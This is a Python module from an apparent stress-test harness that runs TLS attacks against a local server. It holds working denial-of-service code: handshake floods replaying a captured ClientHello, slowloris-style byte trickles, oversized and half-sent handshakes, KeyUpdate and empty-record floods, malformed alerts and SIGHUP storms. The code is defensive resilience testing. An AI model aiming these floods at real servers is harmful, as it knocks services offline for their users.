"""The TLS attacks. Each takes the Target and parameters; returns nothing,
records observations with T.note."""
import json
import os
import random
import select
import socket
import ssl
import struct
import subprocess
import threading
import time

import tlslib
from harness import HERE, mono

RECGEN = os.path.join(HERE, "target/release/recgen")
SUITE_ARG = {"TLS_AES_256_GCM_SHA384": "aes256", "TLS_AES_128_GCM_SHA256": "aes128",
             "TLS_CHACHA20_POLY1305_SHA256": "chacha"}


def drain(sock, counter, stop):
    """Reads and discards what the server sends (so its output never backs up)."""
    while not stop.is_set():
        try:
            r, _, _ = select.select([sock], [], [], 0.5)
            if not r:
                continue
            d = sock.recv(1 << 16, socket.MSG_DONTWAIT)
            if not d:
                counter["eof"] = mono()
                return
            counter["in"] = counter.get("in", 0) + len(d)
        except BlockingIOError:
            continue
        except OSError as e:
            counter["err"] = str(e)
            return


def record_flood(T, conns=1, mode="empty32", seconds=20, plain=None):
    """Hand-made TLS 1.3 records after a real handshake, written by recgen
    as fast as the socket takes them: tiny = 1 plaintext byte per record;
    empty32 = 32 empty records then a 1-byte one; pad = 1 byte padded to a
    full record; full = 16 KiB records (honest bulk). The plaintext is
    pipelined GETs; the server's answers are read and discarded."""
    cs = [tlslib.Tls13(T.port) for _ in range(conns)]
    stop = threading.Event()
    counters, procs = [], []
    for c in cs:
        c.sock.setblocking(True)
        cnt = {}
        counters.append(cnt)
        rd = socket.socket(fileno=os.dup(c.sock.fileno()))
        threading.Thread(target=drain, args=(rd, cnt, stop), daemon=True).start()
        args = [RECGEN, str(c.sock.fileno()), SUITE_ARG[c.suite], c.tx.key.hex(), c.tx.iv.hex(),
                str(c.tx.seq), mode, str(seconds)] + ([plain] if plain else [])
        procs.append(subprocess.Popen(args, pass_fds=[c.sock.fileno()], stdout=subprocess.PIPE))
    t0 = mono()
    outs = []
    for p in procs:
        o, _ = p.communicate()
        try:
            outs.append(json.loads(o))
        except ValueError:
            outs.append(o.decode()[:200])
    T.note("recgen", outs)
    T.note("flood_secs", round(mono() - t0, 1))
    time.sleep(1)
    stop.set()
    T.note("responses_bytes_read", [c.get("in", 0) for c in counters])
    T.note("server_closed_at", [round(c["eof"] - t0, 1) if "eof" in c else None for c in counters])
    for c in cs:
        c.sock.close()


# ---------------------------------------------------------------------------
# Handshake floods: a captured ClientHello replayed on many connections; the
# attacker does no cryptography at all, the server does the key exchange and
# signs its CertificateVerify for each.
# ---------------------------------------------------------------------------

def _hs_worker(port, hello, conc, seconds, need, q, mode, rate=0):
    import selectors
    sel = selectors.DefaultSelector()
    end = mono() + seconds
    done = started = failed = 0
    lat = []

    def open_one():
        nonlocal started
        s = socket.socket()
        s.setblocking(False)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        try:
            s.connect(("127.0.0.1", port))
        except BlockingIOError:
            pass
        sel.register(s, selectors.EVENT_WRITE, [mono(), 0, False])
        started += 1

    t_start = mono()
    inflight = 0

    def can_open():
        return inflight < conc and (not rate or started < (mono() - t_start) * rate)
    while can_open():
        open_one(); inflight += 1
    while mono() < end:
        while can_open():
            open_one(); inflight += 1
        for key, ev in sel.select(0.002 if rate else 0.2):
            s, st = key.fileobj, key.data
            if not st[2]:
                try:
                    if mode == "byte":
                        s.send(hello[:1])  # a ClientHello that never completes
                    else:
                        s.send(hello)
                    st[2] = True
                    sel.modify(s, selectors.EVENT_READ, st)
                except OSError:
                    failed += 1
                    sel.unregister(s); s.close(); inflight -= 1
                continue
            try:
                d = s.recv(65536)
            except OSError:
                d = b""
            if d:
                st[1] += len(d)
                if st[1] < need:
                    continue
                done += 1
                lat.append(mono() - st[0])
            else:
                failed += 1
            sel.unregister(s); s.close(); inflight -= 1
    for key in list(sel.get_map().values()):
        key.fileobj.close()
    lat.sort()
    q.put({"done": done, "failed": failed, "started": started,
           "p50_ms": round(lat[len(lat)//2]*1000, 1) if lat else None,
           "p99_ms": round(lat[int(len(lat)*0.99)]*1000, 1) if lat else None})


HELLOS = {
    "psk_many": lambda: b"".join(tlslib.hs_records(tlslib.psk_hello(1174, 16, 32))),
    "psk_big": lambda: b"".join(tlslib.hs_records(tlslib.psk_hello(300, 150, 48))),
    "alpn9000": lambda: b"".join(tlslib.hs_records(tlslib.big_hello(alpn_n=9000))),
    "sni65000": lambda: b"".join(tlslib.hs_records(tlslib.big_hello(sni_len=65000))),
    "pad65000": lambda: b"".join(tlslib.hs_records(tlslib.big_hello(pad=65000))),
}


def handshake_flood(T, procs=2, conc=200, seconds=20, tls13=1, mode="full", rate=0, hello="normal"):
    """procs x conc connections, each sends a replayed ClientHello, reads the
    server's flight (ServerHello..Finished), resets, reconnects."""
    import multiprocessing as mp
    hello = HELLOS[hello]() if hello in HELLOS else tlslib.client_hello(tls13=bool(tls13))
    T.note("hello_bytes", len(hello))
    # size of the server's first flight, from one real exchange
    s = socket.create_connection(("127.0.0.1", T.port))
    s.sendall(hello)
    s.settimeout(1)
    got = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            got += d
    except socket.timeout:
        pass
    s.close()
    need = max(1, int(len(got) * 0.9))
    T.note("server_flight_bytes", len(got))
    q = mp.Queue()
    ps = [mp.Process(target=_hs_worker, args=(T.port, hello, conc, seconds, need, q, mode, rate / procs))
          for _ in range(procs)]
    for p in ps:
        p.start()
    res = [q.get() for _ in ps]
    for p in ps:
        p.join()
    tot = sum(r["done"] for r in res)
    T.note("handshakes", tot)
    T.note("handshakes_per_s", round(tot / seconds))
    T.note("workers", res)


# ---------------------------------------------------------------------------
# Held connections: many sockets in some state, then wait and see when the
# server closes each (EOF or reset), what it sent, and what memory it took.
# ---------------------------------------------------------------------------

def _watch(T, socks, maxtime, tick=None, tick_every=1.0, label=""):
    """socks: list of (sock, t_open). Returns close times (s after open) and
    the first bytes the server sent on each."""
    import selectors
    sel = selectors.DefaultSelector()
    info = {}
    for i, (s, t) in enumerate(socks):
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ, i)
        info[i] = {"t": t, "closed": None, "got": b""}
    t_end = mono() + maxtime
    next_tick = mono() + tick_every
    open_n = len(socks)
    rss_peak = T.rss() or 0
    stats_peak = {}
    last_rss_t = 0
    while open_n and mono() < t_end:
        for key, _ in sel.select(0.05):
            i = key.data
            try:
                d = key.fileobj.recv(65536)
            except (ConnectionResetError, OSError):
                d = b""
            if d:
                if len(info[i]["got"]) < 200:
                    info[i]["got"] += d[:200]
                continue
            info[i]["closed"] = mono() - info[i]["t"]
            sel.unregister(key.fileobj)
            key.fileobj.close()
            open_n -= 1
        if mono() - last_rss_t > 0.5:
            last_rss_t = mono()
            rss_peak = max(rss_peak, T.rss() or 0)
            st = T.last_stats()
            if st:
                for k, v in st.items():
                    stats_peak[k] = max(stats_peak.get(k, 0), v)
        if tick and mono() >= next_tick:
            next_tick += tick_every
            tick()
    closed = sorted(v["closed"] for v in info.values() if v["closed"] is not None)
    still = open_n
    for key in list(sel.get_map().values()):
        key.fileobj.close()
    kinds = {}
    for v in info.values():
        k = v["got"][:12].hex() if v["got"] else "-"
        kinds[k] = kinds.get(k, 0) + 1
    T.note(label + "closed", len(closed))
    T.note(label + "still_open", still)
    if closed:
        T.note(label + "close_s_min_med_max", [round(closed[0], 1), round(closed[len(closed)//2], 1),
                                               round(closed[-1], 1)])
    T.note(label + "first_bytes_from_server", dict(sorted(kinds.items(), key=lambda x: -x[1])[:4]))
    T.note(label + "rss_peak_mb", round(rss_peak / 1024, 1))
    if stats_peak:
        T.note(label + "stats_peak", stats_peak)


def _conn(port):
    s = socket.create_connection(("127.0.0.1", port))
    return s


def hello_trickle(T, conns=1000, interval=1.0, maxtime=75):
    """conns connections each send a ClientHello one byte per interval."""
    hello = tlslib.client_hello()
    rss0 = T.rss()
    socks = [(_conn(T.port), mono()) for _ in range(conns)]
    pos = {"i": 0}
    T.note("hello_len", len(hello))

    def tick():
        i = pos["i"]
        if i < len(hello):
            for s, _ in socks:
                try:
                    if s.fileno() >= 0:
                        s.send(hello[i:i + 1])
                except OSError:
                    pass
            pos["i"] += 1
    tick()
    T.note("rss_before_mb", round(rss0 / 1024, 1))
    _watch(T, socks, maxtime, tick, interval)


def idle_after_handshake(T, conns=2000, maxtime=90, tls13=1):
    """conns connections complete a TLS handshake, then say nothing."""
    ctx = tlslib.client_context(bool(tls13))
    ctx.keylog_filename = None
    rss0 = T.rss()
    st0 = T.last_stats()
    socks = []
    t0 = mono()
    for i in range(conns):
        raw = socket.create_connection(("127.0.0.1", T.port))
        s = ctx.wrap_socket(raw, server_hostname="localhost")
        # keep the raw socket (no more TLS from us); detach keeps the fd open
        fd = s.detach()
        socks.append((socket.socket(fileno=fd), mono()))
    T.note("handshake_secs", round(mono() - t0, 1))
    time.sleep(2)
    rss1 = T.rss()
    T.note("rss_before_after_mb", [round(rss0 / 1024, 1), round(rss1 / 1024, 1)])
    T.note("rss_per_conn_bytes", round((rss1 - rss0) * 1024 / conns))
    if T.last_stats():
        T.note("stats_before_after", [st0, T.last_stats()])
    _watch(T, socks, maxtime)


def big_hello_hold(T, conns=1000, pad=65000, frag=16384, maxtime=45, cut=1):
    """conns connections send a ClientHello of about pad bytes (a padding
    extension), fragmented in records of frag bytes, all but its last `cut`
    bytes; then silence."""
    msg = tlslib.big_hello(pad=pad)
    wire = b"".join(tlslib.hs_records(msg, frag))[:-cut]
    T.note("hello_bytes_sent", len(wire))
    rss0 = T.rss()
    socks = []
    for _ in range(conns):
        s = _conn(T.port)
        s.sendall(wire)
        socks.append((s, mono()))
    time.sleep(3)
    rss1 = T.rss()
    T.note("rss_before_after_mb", [round(rss0 / 1024, 1), round(rss1 / 1024, 1)])
    T.note("rss_per_conn_bytes", round((rss1 - rss0) * 1024 / conns))
    if T.last_stats():
        T.note("stats_after_send", T.last_stats())
    _watch(T, socks, maxtime)


def post_hs_partial(T, conns=500, hs_len=65000, maxtime=80, msgtype=0x18, partial_record=0):
    """After a TLS 1.3 handshake, each connection sends encrypted handshake
    records holding the first hs_len-1 bytes of a handshake message declared
    hs_len long (type msgtype: 0x18 KeyUpdate), then silence.
    partial_record=N instead: a record header announcing N bytes, then N-1 bytes."""
    rss0 = T.rss()
    socks = []
    for _ in range(conns):
        c = tlslib.Tls13(T.port)
        if partial_record:
            rec = c.app(b"G" * (partial_record - 17))
            c.send(rec[:-1])
        else:
            msg = bytes([msgtype]) + hs_len.to_bytes(3, "big") + bytes(hs_len)
            msg = msg[:-1]
            for i in range(0, len(msg), 16000):
                c.send(c.tx.seal(22, msg[i:i + 16000]))
        socks.append((c.sock, mono()))
    time.sleep(3)
    rss1 = T.rss()
    T.note("rss_before_after_mb", [round(rss0 / 1024, 1), round(rss1 / 1024, 1)])
    T.note("rss_per_conn_bytes", round((rss1 - rss0) * 1024 / conns))
    if T.last_stats():
        T.note("stats_after_send", T.last_stats())
    _watch(T, socks, maxtime)


def record_trickle(T, conns=200, rec_len=16384, interval=1.0, prefix=5, maxtime=80, hs=1):
    """After a TLS 1.3 handshake (hs=1; hs=0: a handshake record from the
    ClientHello), a record of rec_len plaintext bytes is sent: its first
    `prefix` bytes at once, then one byte per connection every interval."""
    socks, recs = [], []
    for _ in range(conns):
        if hs:
            c = tlslib.Tls13(T.port)
            rec = c.app(b"G" * rec_len)
            s = c.sock
        else:
            s = _conn(T.port)
            rec = b"".join(tlslib.hs_records(tlslib.big_hello(pad=rec_len), 16384))
        s.sendall(rec[:prefix])
        socks.append((s, mono()))
        recs.append(rec)
    pos = {"i": prefix}
    cpu0 = {}

    def tick():
        i = pos["i"]
        for (s, _), rec in zip(socks, recs):
            if i < len(rec) - 1:
                try:
                    if s.fileno() >= 0:
                        s.send(rec[i:i + 1])
                except OSError:
                    pass
        pos["i"] += 1
    _watch(T, socks, maxtime, tick, interval)
    T.note("bytes_sent_per_conn", pos["i"])


def _junk_worker(port, payload_kind, conc, seconds, q):
    import selectors
    sel = selectors.DefaultSelector()
    end = mono() + seconds
    stats = {"conns": 0, "answered_400": 0, "alert": 0, "closed_silent": 0, "other": 0}

    def payload():
        if payload_kind == "http":
            return b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
        if payload_kind == "random":
            return os.urandom(1024)
        if payload_kind == "hs_random":
            return b"\x16\x03\x01" + os.urandom(1021)
        return b"\x16\x03\x01\x00\x05" + os.urandom(5)

    def open_one():
        s = socket.socket()
        s.setblocking(False)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        try:
            s.connect(("127.0.0.1", port))
        except BlockingIOError:
            pass
        sel.register(s, selectors.EVENT_WRITE, [b"", False])
        stats["conns"] += 1

    for _ in range(conc):
        open_one()
    while mono() < end:
        for key, ev in sel.select(0.2):
            s, st = key.fileobj, key.data
            if not st[1]:
                try:
                    s.send(payload())
                    st[1] = True
                    sel.modify(s, selectors.EVENT_READ, st)
                    continue
                except OSError:
                    d = None
            else:
                try:
                    d = s.recv(4096)
                except OSError:
                    d = b""
                if d:
                    st[0] += d
                    if not (st[0].startswith(b"HTTP/1.1 400") and b"HTTPS" not in st[0]):
                        pass
                    continue
            got = st[0]
            if got.startswith(b"HTTP/1.1 400"):
                stats["answered_400"] += 1
            elif got[:1] == b"\x15":
                stats["alert"] += 1
            elif not got:
                stats["closed_silent"] += 1
            else:
                stats["other"] += 1
            sel.unregister(s)
            s.close()
            open_one()
    q.put(stats)


def junk_flood(T, payload="http", procs=2, conc=100, seconds=20):
    """Connections to the TLS port that send plain HTTP (kind=http), random
    bytes, or a handshake-typed record of random bytes, read the answer until
    the server closes, then reconnect; as fast as possible."""
    import multiprocessing as mp
    q = mp.Queue()
    ps = [mp.Process(target=_junk_worker, args=(T.port, payload, conc, seconds, q)) for _ in range(procs)]
    for p in ps:
        p.start()
    res = [q.get() for _ in ps]
    for p in ps:
        p.join()
    tot = {k: sum(r[k] for r in res) for k in res[0]}
    T.note("totals", tot)
    T.note("conns_per_s", round(tot["conns"] / seconds))


def noread_download(T, conns=50, path="/big.bin", maxtime=90, slow=0, rcvbuf=4096):
    """conns TLS clients GET a 100 MB file and never read it (slow=N: read
    4 KiB every N seconds instead)."""
    rss0 = T.rss()
    socks = []
    for _ in range(conns):
        c = tlslib.Tls13(T.port)
        c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        c.send(c.app(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode()))
        socks.append((c.sock, mono()))
    time.sleep(5)
    rss1 = T.rss()
    T.note("rss_before_after5s_mb", [round(rss0 / 1024, 1), round(rss1 / 1024, 1)])
    T.note("rss_per_conn_bytes", round((rss1 - rss0) * 1024 / conns))
    if T.last_stats():
        T.note("stats_after5s", T.last_stats())
    if slow:
        # read a little from each, every `slow` seconds, outside _watch
        import selectors
        t_end = mono() + maxtime
        closed = {}
        while mono() < t_end and len(closed) < conns:
            for i, (s, t) in enumerate(socks):
                if i in closed:
                    continue
                try:
                    s.setblocking(False)
                    d = s.recv(4096)
                    if not d:
                        closed[i] = mono() - t
                except BlockingIOError:
                    pass
                except OSError:
                    closed[i] = mono() - t
            time.sleep(slow)
        T.note("slow_closed", len(closed))
        T.note("rss_end_mb", round(T.rss() / 1024, 1))
        if T.last_stats():
            T.note("stats_end", T.last_stats())
        return
    # never read: watch only for the server's close (EOF/RST after the data
    # in flight; recv would read, so check with MSG_PEEK via SIOCINQ-less poll)
    t_end = mono() + maxtime
    closed = {}
    import fcntl, termios
    while mono() < t_end and len(closed) < conns:
        for i, (s, t) in enumerate(socks):
            if i in closed:
                continue
            try:
                # TCP_INFO state: 8 = CLOSE_WAIT (the server sent FIN), or RST -> 7 CLOSE
                info = s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)
                if info[0] in (7, 8):
                    closed[i] = mono() - t
            except OSError:
                closed[i] = mono() - t
        time.sleep(0.5)
    cs = sorted(closed.values())
    T.note("closed", len(cs))
    if cs:
        T.note("close_s_min_med_max", [round(cs[0], 1), round(cs[len(cs)//2], 1), round(cs[-1], 1)])
    T.note("rss_end_mb", round(T.rss() / 1024, 1))
    if T.last_stats():
        T.note("stats_end", T.last_stats())


def _wss(port, path, rcvbuf=None):
    ctx = tlslib.client_context(True)
    ctx.keylog_filename = None
    raw = socket.socket()
    if rcvbuf:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    raw.connect(("127.0.0.1", port))
    s = ctx.wrap_socket(raw, server_hostname="localhost")
    s.sendall((f"GET {path} HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n"
               "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
               "Sec-WebSocket-Version: 13\r\n\r\n").encode())
    buf = b""
    while b"\r\n\r\n" not in buf:
        buf += s.recv(4096)
    assert buf.startswith(b"HTTP/1.1 101"), buf[:100]
    return s


def _ws_frame(payload, opcode=1):
    mask = os.urandom(4)
    n = len(payload)
    if n < 126:
        hdr = bytes([0x80 | opcode, 0x80 | n])
    elif n < 65536:
        hdr = bytes([0x80 | opcode, 0x80 | 126]) + struct.pack(">H", n)
    else:
        hdr = bytes([0x80 | opcode, 0x80 | 127]) + struct.pack(">Q", n)
    return hdr + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))


def wss_noread(T, viewers=50, size=4000, rate=100, seconds=40):
    """`viewers` wss:// chat clients with a 4 KiB receive buffer never read;
    one sender sends `rate` chat lines of `size` bytes per second."""
    rss0 = T.rss()
    vs = [(_wss(T.port, "/ws/chat", rcvbuf=4096), mono()) for _ in range(viewers)]
    sender = _wss(T.port, "/ws/chat")
    stop = threading.Event()

    def reader():
        sender.settimeout(0.5)
        while not stop.is_set():
            try:
                if not sender.recv(65536):
                    return
            except (socket.timeout, ssl.SSLWantReadError):
                continue
            except OSError:
                return
    # The sender's socket is used by two threads (ssl objects are not thread
    # safe for concurrent use): read and write alternately instead.
    sender.settimeout(0.0)
    line = _ws_frame(b"x" * size)
    t0 = mono()
    sent = 0
    rss_peak = 0
    st_peak = {}
    while mono() - t0 < seconds:
        try:
            sender.sendall(line)
            sent += 1
        except (ssl.SSLWantWriteError, BlockingIOError):
            pass
        for _ in range(20):
            try:
                if not sender.recv(65536):
                    break
            except (ssl.SSLWantReadError, BlockingIOError):
                break
        rss_peak = max(rss_peak, T.rss() or 0)
        st = T.last_stats()
        if st:
            for k, v in st.items():
                st_peak[k] = max(st_peak.get(k, 0), v)
        time.sleep(max(0, t0 + sent / rate - mono()))
    stop.set()
    T.note("lines_sent", sent)
    T.note("rss_before_peak_mb", [round(rss0 / 1024, 1), round(rss_peak / 1024, 1)])
    T.note("viewers_open_at_end_server_fds", T.fds())
    for s, _ in vs:
        s.close()
    sender.close()


def keyupdate_flood(T, n=200000, requested=1, conns=1, noread=0):
    """After a TLS 1.3 handshake: n x (KeyUpdate + one byte of a pipelined
    GET) pre-made, then sent as fast as possible; answers read and
    discarded (noread=1: never read)."""
    req = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
    cs, blobs = [], []
    t0 = mono()
    for _ in range(conns):
        c = tlslib.Tls13(T.port)
        parts = []
        for i in range(n):
            parts.append(c.key_update(bool(requested)))
            parts.append(c.app(req[i % len(req):i % len(req) + 1]))
        cs.append(c)
        blobs.append(b"".join(parts))
    T.note("prepare_secs", round(mono() - t0, 1))
    T.note("blob_bytes", len(blobs[0]))
    yield
    stop = threading.Event()
    cnts = []
    ths = []
    t1 = mono()
    for c, blob in zip(cs, blobs):
        c.sock.setblocking(True)
        cnt = {}
        cnts.append(cnt)
        if not noread:
            rd = socket.socket(fileno=os.dup(c.sock.fileno()))
            threading.Thread(target=drain, args=(rd, cnt, stop), daemon=True).start()

        def send(c=c, blob=blob, cnt=cnt):
            try:
                c.sock.sendall(blob)
                cnt["sent_at"] = mono() - t1
            except OSError as e:
                cnt["send_err"] = f"{e} at {mono() - t1:.1f}s"
        th = threading.Thread(target=send)
        th.start()
        ths.append(th)
    for th in ths:
        th.join(120)
    time.sleep(2)
    stop.set()
    T.note("send", [{k: (round(v, 1) if isinstance(v, float) else v) for k, v in x.items()} for x in cnts])
    T.note("stats_end", T.last_stats())


def keyupdate_limit(T):
    """33 KeyUpdate requests with no application data between them, then
    the same with a data byte after every 32: what does the server do?"""
    out = {}
    for label, data_every in (("33_no_data", 0), ("100_data_every_32", 32)):
        c = tlslib.Tls13(T.port)
        blob = b""
        for i in range(33 if not data_every else 100):
            blob += c.key_update(True)
            if data_every and (i + 1) % data_every == 0:
                blob += c.app(b"\r\n")
        c.send(blob)
        res = []
        try:
            while True:
                t, d = c.recv_plain(3)
                res.append((t, d[:4].hex()))
        except Exception as e:  # noqa: BLE001
            res.append(type(e).__name__ + ":" + str(e)[:40])
        out[label] = res[-4:]
        c.sock.close()
    T.note("results", out)


def _collect(c, timeout=3.0):
    """Decrypts what the server sends until EOF/timeout: (summary, seconds)."""
    t0 = mono()
    out = []
    try:
        while True:
            t, d = c.recv_plain(max(0.05, timeout - (mono() - t0)))
            if t == 23:
                if d.startswith(b"HTTP/"):
                    out.append("data:" + d[:15].decode(errors="replace").replace("\r\n", " "))
                else:
                    out.append("body-record")
            elif t == 21:
                out.append(f"alert:{d.hex()}")
            elif t == 22:
                out.append(f"hs:{d[:1].hex()}")
            else:
                out.append(f"type{t}")
            if mono() - t0 > timeout:
                out.append("TIMEOUT(open)")
                break
    except ConnectionError:
        out.append("EOF")
    except socket.timeout:
        out.append("TIMEOUT(open)")
    except Exception as e:  # noqa: BLE001
        out.append(type(e).__name__ + ":" + str(e)[:50])
    # compress repeated data records
    comp = []
    for x in out:
        if x.startswith("hs:04"):
            continue  # NewSessionTicket
        if comp and comp[-1][0] == x:
            comp[-1][1] += 1
        else:
            comp.append([x, 1])
    return [f"{x}x{n}" if n > 1 else x for x, n in comp], round(mono() - t0, 2)


def alert_cases(T):
    req = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
    cases = {}

    def case(name, f):
        c = tlslib.Tls13(T.port)
        try:
            f(c)
        except OSError as e:
            cases[name] = f"send failed: {e}"
            return
        cases[name] = _collect(c)
        c.sock.close()

    case("close_notify_only", lambda c: c.send(c.alert(1, 0)))
    case("request_then_close_notify", lambda c: c.send(c.app(req) + c.alert(1, 0)))
    case("close_notify_then_request", lambda c: c.send(c.alert(1, 0) + c.app(req)))
    case("request_then_tcp_shutdown_wr", lambda c: (c.send(c.app(req)), c.sock.shutdown(socket.SHUT_WR)))
    case("4_warning_alerts_then_request", lambda c: c.send(b"".join(c.alert(1, 90) for _ in range(4)) + c.app(req)))
    case("5_warning_alerts_then_request", lambda c: c.send(b"".join(c.alert(1, 90) for _ in range(5)) + c.app(req)))
    case("unknown_warning_255", lambda c: c.send(c.alert(1, 255) + c.app(req)))
    case("fatal_alert_mid_request", lambda c: c.send(c.app(req[:10]) + c.alert(2, 40)))
    case("alert_3_bytes", lambda c: c.send(c.tx.seal(21, b"\x01\x00\x00") + c.app(req)))
    case("empty_alert_record", lambda c: c.send(c.tx.seal(21, b"") + c.app(req)))
    case("33_empty_app_records", lambda c: c.send(b"".join(c.app(b"") for _ in range(33)) + c.app(req)))
    case("32_empty_then_req", lambda c: c.send(b"".join(c.app(b"") for _ in range(32)) + c.app(req)))
    case("ccs_after_handshake", lambda c: c.send(b"\x14\x03\x03\x00\x01\x01" + c.app(req)))
    case("plaintext_alert_after_hs", lambda c: c.send(b"\x15\x03\x03\x00\x02\x01\x00" + c.app(req)))
    case("bad_tag", lambda c: c.send(c.app(req)[:-1] + b"\x00"))
    case("record_too_big_16k+257", lambda c: c.send(c.tx.seal(23, b"a" * (16384 + 1), pad=0)))
    case("inner_plaintext_16k+1_padded", lambda c: c.send(c.tx.seal(23, b"G", pad=16383)))
    case("all_padding_no_type", lambda c: c.send(b"\x17\x03\x03" + struct.pack(">H", 16 + 10) +
                                                 c.tx.aead.encrypt(c.tx.nonce(), bytes(10), b"\x17\x03\x03" + struct.pack(">H", 26))))
    case("keyupdate_bad_value_2", lambda c: c.send(c.tx.seal(22, b"\x18\x00\x00\x01\x02")))
    case("clienthello_after_tls13_hs", lambda c: c.send(c.tx.seal(22, tlslib.big_hello())))
    case("post_hs_hs_msg_type_99", lambda c: c.send(c.tx.seal(22, b"\x63\x00\x00\x02ab") + c.app(req)))

    def download_then_close_notify(c):
        c.send(c.app(b"GET /big.bin HTTP/1.1\r\nHost: x\r\n\r\n"))
        time.sleep(0.2)
        c.send(c.alert(1, 0))
    case("download_then_close_notify", download_then_close_notify)
    for k, v in cases.items():
        T.note(k, v)


# ---------------------------------------------------------------------------
# Certificate reloads (pollserve CLI: SIGHUP and file changes)
# ---------------------------------------------------------------------------

def _peer_key_type(port):
    """The key type of the certificate the server presents now."""
    out = subprocess.run(["openssl", "s_client", "-connect", f"127.0.0.1:{port}", "-brief"],
                         input=b"", capture_output=True, timeout=10).stderr.decode()
    for line in out.splitlines():
        if "Peer certificate" in line or "Server Temp Key" in line or "Peer signature type" in line:
            pass
    sig = [l for l in out.splitlines() if "Peer signature type" in l]
    return sig[0].split(":", 1)[1].strip() if sig else out[-200:]


def _install(certdir, name):
    """Atomically installs certs/<name>.{pem,key} as the served pair (key first)."""
    import shutil
    for src, dst in ((f"{name}.key", "key.pem"), (f"{name}.pem", "cert.pem")):
        tmp = os.path.join(certdir, dst + ".tmp")
        shutil.copy(os.path.join(HERE, "certs", src), tmp)
        os.rename(tmp, os.path.join(certdir, dst))


def reload_under_flood(T, procs=2, conc=500, seconds=20, every=1.0, signal_too=1):
    """A replayed-ClientHello flood with procs x conc handshakes in flight;
    every `every` seconds the certificate pair is switched (ECDSA <-> RSA)
    by renaming new files into place, and the server gets SIGHUP."""
    import multiprocessing as mp
    import signal as sig
    hello = tlslib.client_hello()
    q = mp.Queue()
    ps = [mp.Process(target=_hs_worker, args=(T.port, hello, conc, seconds, 1, q, "full"))
          for _ in range(procs)]
    for p in ps:
        p.start()
    n = 0
    t_end = mono() + seconds
    names = ["rsa", "ec"]
    while mono() < t_end - every:
        time.sleep(every)
        _install(T.certdir, names[n % 2])
        if signal_too:
            os.kill(T.pid, sig.SIGHUP)
        n += 1
    res = [q.get() for _ in ps]
    for p in ps:
        p.join()
    T.note("switches", n)
    T.note("workers", res)
    T.note("handshakes", sum(r["done"] for r in res))
    T.note("failed_handshakes", sum(r["failed"] for r in res))
    T.note("alive", T.alive())
    time.sleep(2.5)
    T.note("served_now_sig", _peer_key_type(T.port))
    T.note("installed_last", names[(n - 1) % 2])


def garbage_reload(T):
    """The certificate / key files are replaced by bad contents; SIGHUP after
    each; is the old certificate still served and does the server keep going?"""
    import signal as sig
    cert = os.path.join(T.certdir, "cert.pem")
    key = os.path.join(T.certdir, "key.pem")
    good_cert = open(cert, "rb").read()
    good_key = open(key, "rb").read()
    rsa_key = open(os.path.join(HERE, "certs", "rsa.key"), "rb").read()
    cases = [
        ("cert_random_bytes", cert, os.urandom(4096)),
        ("cert_empty", cert, b""),
        ("cert_truncated_pem", cert, good_cert[: len(good_cert) // 2]),
        ("cert_is_key", cert, good_key),
        ("key_random_bytes", key, os.urandom(4096)),
        ("key_empty", key, b""),
        ("key_of_other_cert", key, rsa_key),
        ("key_truncated", key, good_key[:100]),
        ("cert_16MB_garbage", cert, os.urandom(16 << 20)),
    ]
    out = {}
    for name, path, data in cases:
        with open(path, "wb") as f:
            f.write(data)
        os.kill(T.pid, sig.SIGHUP)
        time.sleep(0.7)
        ok = T.alive()
        try:
            st = _peer_key_type(T.port)
        except Exception as e:  # noqa: BLE001
            st = repr(e)
        out[name] = (ok, st)
        # restore
        with open(cert, "wb") as f:
            f.write(good_cert)
        with open(key, "wb") as f:
            f.write(good_key)
        time.sleep(0.3)
    # a file deleted, then a directory in its place
    os.remove(cert)
    os.kill(T.pid, sig.SIGHUP)
    time.sleep(0.7)
    out["cert_deleted"] = (T.alive(), _peer_key_type(T.port))
    os.mkdir(cert)
    os.kill(T.pid, sig.SIGHUP)
    time.sleep(0.7)
    out["cert_is_directory"] = (T.alive(), _peer_key_type(T.port))
    os.rmdir(cert)
    with open(cert, "wb") as f:
        f.write(good_cert)
    for k, v in out.items():
        T.note(k, v)


def sighup_storm(T, seconds=10, procs=2):
    """Sends SIGHUP to the server as fast as possible from `procs` processes."""
    import multiprocessing as mp
    import signal as sig

    def storm(pid, secs, q):
        n = 0
        end = mono() + secs
        while mono() < end:
            try:
                os.kill(pid, sig.SIGHUP)
            except ProcessLookupError:
                break
            n += 1
        q.put(n)
    q = mp.Queue()
    ps = [mp.Process(target=storm, args=(T.pid, seconds, q)) for _ in range(procs)]
    for p in ps:
        p.start()
    sent = sum(q.get() for _ in ps)
    for p in ps:
        p.join()
    T.note("sighups_sent", sent)
    T.note("alive", T.alive())
    time.sleep(1)
    with open(T.log_path) as f:
        log = f.read()
    T.note("reload_log_lines", log.count("reloaded"))
    T.note("reload_failed_lines", log.count("reload failed"))


def tls12_cases(T):
    """TLS 1.2 (ECDHE-ECDSA-CHACHA20): renegotiation attempts, warning alerts."""
    req = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
    hello = tlslib.build_hello(*tlslib.parse_hello(tlslib.client_hello(tls13=False)))
    out = {}

    def run(name, f):
        c = tlslib.Tls12Chacha(T.port)
        c.sock.sendall(f(c))
        c.sock.settimeout(2)
        got = []
        try:
            while True:
                hdr = tlslib.recv_exact(c.sock, 5)
                body = tlslib.recv_exact(c.sock, struct.unpack(">H", hdr[3:5])[0])
                got.append(f"type{hdr[0]}:{len(body)}")
        except ConnectionError:
            got.append("EOF")
        except socket.timeout:
            got.append("open")
        out[name] = got
    run("request", lambda c: c.seal(23, req))
